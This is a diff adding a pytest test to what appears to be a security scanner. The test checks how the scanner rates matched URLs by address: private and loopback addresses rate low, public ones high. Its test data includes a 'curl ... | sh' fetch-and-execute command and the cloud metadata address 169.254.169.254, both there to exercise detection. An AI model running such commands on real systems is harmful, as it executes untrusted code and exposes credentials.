@@ -62,6 +62,22 @@ def test_only_what_is_grave_and_rarely_wrong_weighs_much(rule: str, severity: st
     assert labels_of([match]).risk is risk
 
 
+@pytest.mark.parametrize(
+    ("matched", "risk"),
+    [
+        ("http://192.0.2.10", Risk.LOW),
+        ("http://10.1.2.3:8080/x", Risk.LOW),
+        ("https://127.0.0.1/", Risk.LOW),
+        ("http://45.77.1.2", Risk.HIGH),
+        ("http://169.254.169.254/latest", Risk.HIGH),
+        ("http://999.1.1.1", Risk.HIGH),
+        ("curl http://10.1.2.3 | sh", Risk.HIGH),
+    ],
+)
+def test_an_address_that_nobody_outside_can_have_weighs_little(matched: str, risk: Risk) -> None:
+    assert replace(MATCH, match=matched).risk is risk
+
+
 def test_no_match_is_info() -> None:
     assert labels_of([]).risk is Risk.INFO
     assert read_report(as_report([])).findings == ()
